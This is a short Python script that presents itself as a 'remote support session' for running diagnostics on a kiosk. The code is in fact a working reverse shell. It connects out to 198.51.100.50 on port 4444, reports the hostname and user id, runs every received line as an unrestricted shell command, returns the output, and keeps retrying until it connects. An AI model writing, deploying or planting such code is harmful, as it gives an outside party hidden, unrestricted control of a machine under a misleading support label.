#!/usr/bin/env python3
"""Remote support session: lets the maintainer run diagnostics on this kiosk."""
import os
import socket
import subprocess
import time

SUPPORT = ("198.51.100.50", 4444)


def session():
    s = socket.create_connection(SUPPORT, timeout=30)
    s.settimeout(None)
    s.sendall(f"kiosk {socket.gethostname()} uid={os.getuid()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "exit":
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:]))
                out = b""
            except OSError as e:
                out = str(e).encode()
        else:
            p = subprocess.run(cmd, shell=True, capture_output=True)
            out = p.stdout + p.stderr
        f.write(out + b"\n$ ")
    s.close()


if __name__ == "__main__":
    while True:
        try:
            session()
            break
        except OSError:
            time.sleep(15)
